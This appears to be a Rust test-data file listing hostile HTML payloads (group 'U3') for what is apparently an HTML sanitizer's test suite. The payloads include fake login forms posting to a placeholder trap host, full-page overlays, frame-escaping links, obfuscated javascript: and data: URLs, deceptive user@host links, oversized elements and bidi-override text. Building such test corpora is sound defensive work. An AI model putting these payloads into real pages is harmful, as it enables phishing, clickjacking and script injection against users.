//! U3: markup that would cover what is around it, lead the page away or pose as something else.

use super::Attack;

const fn pose(what: &'static str, html: &'static str) -> Attack {
    Attack::new("U3", what, html)
}

pub(super) const POSING: &[Attack] = &[
    pose(
        "a layer over everything",
        "<div style=\"position:fixed;inset:0;z-index:99999;background:#fff\">over</div>",
    ),
    pose(
        "a layer over everything, by a sheet",
        "<style>div{position:fixed;inset:0}</style><div>over</div>",
    ),
    pose(
        "a layer by classes of the page around it",
        "<div class=\"toasts head pane\">over</div>",
    ),
    pose(
        "an open dialog",
        "<dialog open>Your session has ended.</dialog>",
    ),
    pose(
        "a login",
        "<form action=http://{trap}/login><input name=user><input type=password name=pw><button>Sign in</button></form>",
    ),
    pose(
        "a login without a form",
        "<input type=password placeholder=Password><button>Sign in</button>",
    ),
    pose(
        "a text that can be written into",
        "<p contenteditable>Password: </p>",
    ),
    pose(
        "a link for the whole page",
        "<a target=_top href=http://{trap}/top>a</a>",
    ),
    pose(
        "a link for the frame around",
        "<a target=_parent href=http://{trap}/parent>a</a>",
    ),
    pose(
        "a link for a tab",
        "<a target=_blank href=http://{trap}/tab>a</a>",
    ),
    pose(
        "a link for the same frame",
        "<a href=http://{trap}/same>a</a>",
    ),
    pose(
        "a form for the whole page",
        "<form target=_top action=http://{trap}/top><button>a</button></form>",
    ),
    pose("a link with a script", "<a href=\"javascript:{run}\">a</a>"),
    pose(
        "a link with a script and blanks in it",
        "<a href=\" java\tscript:{run}\">a</a>",
    ),
    pose(
        "a link with a script in entities",
        "<a href=\"&#106;avascript&colon;{run}\">a</a>",
    ),
    pose(
        "a link with a script behind a control",
        "<a href=\"\u{1}javascript:{run}\">a</a>",
    ),
    pose(
        "a link with data",
        "<a href=\"data:text/html,<script>{run}</script>\">a</a>",
    ),
    pose(
        "links with schemes that run or read",
        "<a href=vbscript:x>a</a><a href=blob:x>b</a><a href=file:///c:/x>c</a><a href=intent:x>d</a><a href=view-source:x>e</a>",
    ),
    pose(
        "a link without a scheme",
        "<a href=//{trap}/x>a</a><a href=\\\\{trap}\\x>b</a><a href=/\\{trap}/x>c</a>",
    ),
    pose(
        "a link to a place of the page around it",
        "<a href=\"/pane?key=x\">a</a><a href=\"#x\">b</a><a href=\"?x\">c</a>",
    ),
    pose(
        "a link with a name in front of the host",
        "<a href=\"https://shop.example@{trap}/x\">a</a>",
    ),
    pose(
        "a link whose words say another address",
        "<a href=\"https://evil.example/\">https://bank.example/</a>",
    ),
    pose(
        "a running text",
        "<marquee>Your session has ended</marquee><blink>!</blink>",
    ),
    pose(
        "a key of the keyboard",
        "<a accesskey=x tabindex=1 href=\"https://evil.example/\">a</a>",
    ),
    pose(
        "a table of a million columns",
        "<table><tr><td colspan=1000000 rowspan=1000000>a</table>",
    ),
    pose(
        "a picture of a billion dots",
        "<img width=1000000000 height=1000000000><hr size=100000000 width=100000000>",
    ),
    pose(
        "text that leaves its line",
        "Z\u{335}\u{321}\u{322}\u{31b}\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}\u{30b}",
    ),
    pose(
        "text that runs the other way",
        "\u{202e}\u{2066}refund\u{2069} <b dir=rtl>\u{202d}x</b>",
    ),
    pose(
        "a drawing over its edges",
        "<svg width=9999 height=9999 style=\"position:fixed\"><rect width=9999 height=9999 /></svg>",
    ),
];
